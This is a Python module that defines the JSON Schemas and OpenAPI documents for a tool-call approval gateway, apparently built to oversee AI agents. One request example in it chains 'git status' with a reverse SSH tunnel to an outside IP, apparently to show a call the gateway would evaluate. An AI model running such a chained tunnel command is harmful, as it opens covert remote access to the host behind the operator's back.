"""The HTTP API's bodies as JSON Schemas, and the OpenAPI documents built from them.

Handlers validate request bodies with these very schemas (``check``), and ``/openapi.json``
on each listener is assembled from them, so the description cannot drift from what is
enforced. Responses are described here too; the schemathesis test holds the server to them.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import cache
from typing import Any, Literal

import fastjsonschema
import structlog
from jsonschema import Draft202012Validator

from gatekeeper import codes

from .. import __version__
from ..errors import RequestError
from ..manifest import compile_fast, plain_json

log = structlog.get_logger("gatekeeper.api_schema")

Schema = dict[str, Any]
Listener = Literal["agent", "operator"]

_STR: Schema = {"type": "string"}
_OPT_STR: Schema = {"type": ["string", "null"]}
_TIME: Schema = {"type": "string", "format": "date-time"}
_OPT_TIME: Schema = {"type": ["string", "null"], "format": "date-time"}
_STR_LIST: Schema = {"type": "array", "items": _STR}


def _object(required: list[str], properties: Mapping[str, Schema], *, closed: bool = False) -> Schema:
    schema: Schema = {"type": "object", "required": required, "properties": dict(properties)}
    if closed:
        schema["additionalProperties"] = False
    return schema


# --- requests (validated by the handlers with check()) -----------------------------------------
CALL_REQUEST = _object(
    ["tool"],
    {"tool": {"type": "string", "minLength": 1}, "arguments": {"type": "object"}},
    closed=True,
)
VERDICT_REQUEST = _object(
    [],
    {
        "comment": {"type": "string", "maxLength": 4000},
        "grant_minutes": {"type": ["number", "null"], "exclusiveMinimum": 0},  # null: no grant
    },
    closed=True,
)
PIN_REQUEST = _object(
    ["digest"],
    {
        "digest": {"type": "string", "minLength": 1, "maxLength": 128},
        "comment": {"type": "string", "maxLength": 4000},
    },
    closed=True,
)
EXPLAIN_REQUEST = _object(
    ["tool"],
    {"tool": _STR, "arguments": {"type": "object"}, "roles": _STR_LIST, "sub": _STR},
    closed=True,
)

# --- responses -------------------------------------------------------------------------------
ERROR = _object(["code"], {"code": _STR, "message": _STR, "decision_id": _STR})
DENIED = _object(
    ["outcome", "decision_id", "code", "reason"],
    {
        "outcome": {"const": "denied"},
        "decision_id": _STR,
        "code": _STR,
        "reason": _STR,
        "rule": _OPT_STR,
        "capability": _OPT_STR,
        "policy_version": _OPT_STR,
        "approval_id": _OPT_STR,
    },
)
PENDING = _object(
    ["outcome", "decision_id", "approval_id", "expires_at"],
    {
        "outcome": {"const": "pending"},
        "decision_id": _STR,
        "approval_id": _STR,
        "expires_at": _TIME,
        "reason": _STR,
    },
)
INVOKED = _object(
    ["outcome", "decision_id", "result"], {"outcome": {"const": "allowed"}, "decision_id": _STR}
)
DECIDED = _object(
    ["outcome", "decision_id", "tool", "capabilities"],
    {
        "outcome": {"const": "allowed"},
        "decision_id": _STR,
        "tool": _STR,
        "code": _STR,
        "reason": _STR,
        "rule": _OPT_STR,
        "capability": _OPT_STR,
        "capabilities": _STR_LIST,
        "policy_version": _OPT_STR,
        "approval_id": _OPT_STR,
        "enforced": {"type": "boolean"},
    },
)
VOTE = _object(
    ["operator", "verdict", "at"],
    {"operator": _STR, "verdict": {"enum": ["approve", "deny"]}, "comment": _STR, "at": _TIME},
)
_STATE: Schema = {"enum": ["pending", "approved", "denied", "expired", "consumed"]}
APPROVAL = _object(
    ["id", "state", "principal", "tool", "created_at", "expires_at"],
    {
        "id": _STR,
        "state": _STATE,
        "principal": _STR,
        "roles": _STR_LIST,
        "tool": _STR,
        "arguments": {"type": "object"},
        "digest": _STR,
        "capabilities": _STR_LIST,
        "rule": _OPT_STR,
        "reason": _STR,
        "created_at": _TIME,
        "expires_at": _TIME,
        "required_approvals": {"type": "integer"},
        "approvals": {"type": "integer"},
        "votes": {"type": "array", "items": VOTE},
        "decided_at": _OPT_TIME,
        "consumed_at": _OPT_TIME,
    },
)
AGENT_APPROVAL = _object(
    ["id", "state", "decision", "tool", "created_at", "expires_at"],
    {
        "id": _STR,
        "state": _STATE,
        "decision": _object(
            ["outcome", "code", "reason"],
            {"outcome": {"enum": ["pending", "allowed", "denied"]}, "code": _STR, "reason": _STR},
        ),
        "comment": _OPT_STR,
        "tool": _STR,
        "capabilities": _STR_LIST,
        "rule": _OPT_STR,
        "reason": _STR,
        "votes": {"type": "array", "items": VOTE},
        "created_at": _TIME,
        "expires_at": _TIME,
        "decided_at": _OPT_TIME,
        "consumed_at": _OPT_TIME,
    },
)
GRANT = _object(
    ["id", "principal", "tool", "created_at", "expires_at"],
    {
        "id": _STR,
        "principal": _STR,
        "tool": _STR,
        "digest": _STR,
        "approval_id": _OPT_STR,
        "granted_by": _STR,
        "comment": _STR,
        "created_at": _TIME,
        "expires_at": _TIME,
        "revoked_at": _OPT_TIME,
        "revoked_by": _OPT_STR,
        "uses": {"type": "integer"},
    },
)
HEALTH = _object(["status"], {"status": _STR})


def check_object(schema: Schema, body: Any, what: str = "body") -> dict[str, Any]:
    """Validate a request body against an object schema; the first problem becomes a 400 with a
    stable code (``unknown_field`` or ``invalid_request``)."""
    fast = _fast(schema)
    if fast is not None and isinstance(body, dict) and plain_json(body):
        try:  # the compiled fast path answers for a valid body; jsonschema words any problem
            fast(body)
            return body
        except fastjsonschema.JsonSchemaValueException:
            pass
        except Exception as exc:  # a fast-path bug is no verdict: jsonschema alone decides
            log.warning("schema_fast_path_failed", what=what, error=type(exc).__name__)
    error = next(iter(sorted(_validator(schema).iter_errors(body), key=lambda e: list(e.path))), None)
    if error is None and isinstance(body, dict):
        return body
    if error is None:
        raise RequestError(f"the {what} must be a JSON object", code=codes.INVALID_REQUEST)
    if error.validator == "additionalProperties":
        extra = sorted(set(body) - set(schema.get("properties", {}))) if isinstance(body, dict) else []
        allowed = ", ".join(schema.get("properties", {}))
        raise RequestError(
            f"unknown field {extra[0] if extra else '?'!r}; the {what} has only {allowed}",
            code=codes.UNKNOWN_FIELD,
        )
    where = ".".join(str(p) for p in error.absolute_path) or what
    raise RequestError(f"{where}: {error.message}", code=codes.INVALID_REQUEST)


_validators: dict[int, Draft202012Validator] = {}
_fast_validators: dict[int, Callable[[Any], Any] | None] = {}


def _fast(schema: Schema) -> Callable[[Any], Any] | None:
    """The schema compiled by fastjsonschema (manifest.compile_fast's allowlist), or None."""
    if id(schema) not in _fast_validators:
        _fast_validators[id(schema)] = compile_fast(schema)[0]
    return _fast_validators[id(schema)]


def _validator(schema: Schema) -> Draft202012Validator:
    """One compiled validator per schema (the schemas are module constants, never garbage)."""
    validator = _validators.get(id(schema))
    if validator is None:
        validator = _validators[id(schema)] = Draft202012Validator(schema)
    return validator


# --- the documents ---------------------------------------------------------------------------
def _json(schema: Schema, description: str) -> dict[str, Any]:
    return {"description": description, "content": {"application/json": {"schema": schema}}}


def _errors(*statuses: str) -> dict[str, Any]:
    described = {
        "400": "malformed or ambiguous input",
        "401": "bad or missing token",
        "403": "refused",
        "404": "not found",
        "409": "conflict with the approval's state",
        "413": "body too large",
        "429": "too many pending approvals",
        "502": "the tool could not be reached",
        "503": "shutting down, or the audit trail is behind",
        "504": "the tool did not answer in time",
    }
    return {s: _json(ERROR, described[s]) for s in statuses}


def _call_operation(summary: str, allowed: Schema, description: str) -> dict[str, Any]:
    return {
        "summary": summary,
        "description": description,
        "parameters": [
            {
                "name": "Prefer",
                "in": "header",
                "required": False,
                "description": "RFC 7240 `wait=<seconds>`: how long to wait for an operator",
                "schema": {"type": "string", "pattern": "^wait=[0-9]{1,3}$"},
            }
        ],
        "requestBody": {
            "required": True,
            "content": {
                "application/json": {
                    "schema": CALL_REQUEST,
                    "examples": {
                        "read": {"value": {"tool": "file.read", "arguments": {"path": "README.md"}}},
                        "tunnel": {
                            "value": {
                                "tool": "shell.exec",
                                "arguments": {
                                    "cmd": "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"
                                },
                            }
                        },
                    },
                }
            },
        },
        "responses": {
            "200": _json(allowed, "allowed"),
            "202": _json(PENDING, "held for an operator longer than the caller waited"),
            "403": _json({"anyOf": [DENIED, ERROR]}, "denied"),
            **_errors("400", "401", "404", "413", "429", "502", "503", "504"),
        },
    }


def _id_param() -> dict[str, Any]:
    return {"name": "id", "in": "path", "required": True, "schema": _STR}


_ANY_OBJECT: Schema = {"type": "object"}


def _get(summary: str, schema: Schema, *, parameters: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    """A GET answering one JSON object (or the usual errors)."""
    return {
        "get": {
            "summary": summary,
            "parameters": parameters or [],
            "responses": {"200": _json(schema, summary), **_errors("400", "401", "404")},
        }
    }


def _health_paths() -> dict[str, Any]:
    return {
        "/openapi.json": {
            "get": {
                "summary": "this document",
                "security": [],
                "responses": {"200": _json(_ANY_OBJECT, "OpenAPI")},
            }
        },
        "/healthz": {
            "get": {"summary": "liveness", "security": [], "responses": {"200": _json(HEALTH, "alive")}}
        },
    }


def _agent_paths() -> dict[str, Any]:
    return {
        "/v1/invoke": {
            "post": _call_operation(
                "Decide a tool call and, if allowed, forward it", INVOKED, "See DESIGN §4."
            )
        },
        "/v1/decide": {
            "post": _call_operation(
                "Decide a tool call without forwarding it",
                DECIDED,
                "The same stages as /v1/invoke; the caller runs an allowed call itself.",
            )
        },
        "/v1/approvals/{id}": {
            "get": {
                "summary": "The caller's own held call",
                "parameters": [_id_param()],
                "responses": {"200": _json(AGENT_APPROVAL, "the approval"), **_errors("401", "404")},
            }
        },
        **_health_paths(),
        "/readyz": {
            "get": {
                "summary": "readiness",
                "security": [],
                "responses": {"200": _json(HEALTH, "ready"), "503": _json(HEALTH, "not ready")},
            }
        },
        "/metrics": {
            "get": {
                "summary": "Prometheus metrics",
                "security": [],
                "responses": {"200": {"description": "metrics", "content": {"text/plain": {"schema": _STR}}}},
            }
        },
    }


def _operator_paths() -> dict[str, Any]:
    state = {"name": "state", "in": "query", "required": False, "schema": _STATE}
    page = [
        {
            "name": n,
            "in": "query",
            "required": False,
            "schema": {"type": "integer", "minimum": 0, "maximum": high},
        }
        for n, high in (("limit", 1000), ("offset", 10_000_000))
    ]
    listed = _object(
        ["approvals", "total"],
        {"approvals": {"type": "array", "items": APPROVAL}, "total": {"type": "integer"}},
    )
    return {
        **_health_paths(),
        "/v1/whoami": {
            "get": {
                "summary": "The operator this token names",
                "responses": {
                    "200": _json(_object(["subject"], {"subject": _STR, "roles": _STR_LIST}), "who"),
                    **_errors("401"),
                },
            }
        },
        "/v1/approvals": {
            "get": {
                "summary": "Approvals, newest first",
                "parameters": [state, *page],
                "responses": {"200": _json(listed, "a page of approvals"), **_errors("400", "401")},
            }
        },
        "/v1/approvals/{id}": {
            "get": {
                "summary": "One approval",
                "parameters": [_id_param()],
                "responses": {"200": _json(APPROVAL, "the approval"), **_errors("401", "404")},
            }
        },
        "/v1/approvals/{id}/{verdict}": {
            "post": {
                "summary": "Approve or deny, with a comment",
                "parameters": [
                    _id_param(),
                    {
                        "name": "verdict",
                        "in": "path",
                        "required": True,
                        "schema": {"enum": ["approve", "deny"]},
                    },
                ],
                "requestBody": {
                    "required": False,
                    "content": {"application/json": {"schema": VERDICT_REQUEST}},
                },
                "responses": {
                    "200": _json(APPROVAL, "the approval after the vote"),
                    **_errors("400", "401", "403", "404", "409", "413"),
                },
            }
        },
        "/v1/grants": {
            "get": {
                "summary": "Time-boxed grants",
                "parameters": [
                    {
                        "name": "active",
                        "in": "query",
                        "required": False,
                        "schema": {"enum": ["true", "false"]},
                    }
                ],
                "responses": {
                    "200": _json(
                        _object(["grants"], {"grants": {"type": "array", "items": GRANT}}), "grants"
                    ),
                    **_errors("401"),
                },
            }
        },
        "/v1/grants/{id}/revoke": {
            "post": {
                "summary": "Revoke a grant",
                "parameters": [_id_param()],
                "responses": {"200": _json(GRANT, "the revoked grant"), **_errors("401", "404", "409")},
            }
        },
        "/v1/explain": {
            "post": {
                "summary": "How the live policy decides a call, rule by rule",
                "requestBody": {
                    "required": True,
                    "content": {"application/json": {"schema": EXPLAIN_REQUEST}},
                },
                "responses": {
                    "200": _json(_ANY_OBJECT, "the explanation"),
                    **_errors("400", "401", "413", "503"),
                },
            }
        },
        "/v1/approvals/{id}/explain": _get(
            "How the live policy decides a held call", _ANY_OBJECT, parameters=[_id_param()]
        ),
        "/v1/decisions": _get(
            "Recent decisions, newest first",
            _object(
                ["decisions"],
                {
                    "decisions": {"type": "array", "items": _object(["time"], {"time": _TIME})},
                    "available": {"type": "boolean"},
                },
            ),
            parameters=[
                {"name": n, "in": "query", "required": False, "schema": {"type": "string", "maxLength": 200}}
                for n in ("outcome", "principal", "tool", "since", "until")
            ]
            + [
                {
                    "name": "limit",
                    "in": "query",
                    "required": False,
                    "schema": {"type": "integer", "minimum": 1, "maximum": 1000},
                }
            ],
        ),
        "/v1/tool-pins": _get(
            "MCP tool definitions withheld until an operator pins them (state=all: every one seen)",
            _object(["pins"], {"pins": {"type": "array", "items": _ANY_OBJECT}}),
            parameters=[
                {"name": "state", "in": "query", "required": False, "schema": {"enum": ["withheld", "all"]}}
            ],
        ),
        "/v1/tool-pins/{upstream}/{tool}/approve": {
            "post": {
                "summary": "Pin the definition an operator reviewed (by its seen_digest)",
                "parameters": [
                    {"name": n, "in": "path", "required": True, "schema": _STR} for n in ("upstream", "tool")
                ],
                "requestBody": {
                    "required": True,
                    "content": {"application/json": {"schema": PIN_REQUEST}},
                },
                "responses": {
                    "200": _json(_ANY_OBJECT, "the pin after approval"),
                    **_errors("400", "401", "404", "409", "413"),
                },
            }
        },
        "/v1/audit/status": _get("The audit trail's head", _object(["status"], {"status": _STR})),
        "/v1/console/config": _get("What the console highlights", _ANY_OBJECT),
        "/v1/events": {
            "get": {
                "summary": "Server-sent events: one per approval queue change",
                "responses": {
                    "200": {
                        "description": "an event stream",
                        "content": {"text/event-stream": {"schema": _STR}},
                    },
                    **_errors("401"),
                },
            }
        },
    }


@cache
def openapi_document(listener: Listener) -> dict[str, Any]:
    title = "Gatekeeper agent API" if listener == "agent" else "Gatekeeper operator API"
    return {
        "openapi": "3.1.0",
        "info": {
            "title": title,
            "version": __version__,
            "description": "Generated from the schemas the handlers validate with. "
            + (
                "MCP (streamable HTTP) is served at /mcp/{upstream}, outside this document."
                if listener == "agent"
                else "Operator tokens only; an agent token is refused."
            ),
        },
        "components": {
            "securitySchemes": {"bearer": {"type": "http", "scheme": "bearer", "bearerFormat": "JWT"}}
        },
        "security": [{"bearer": []}],
        "paths": _agent_paths() if listener == "agent" else _operator_paths(),
    }
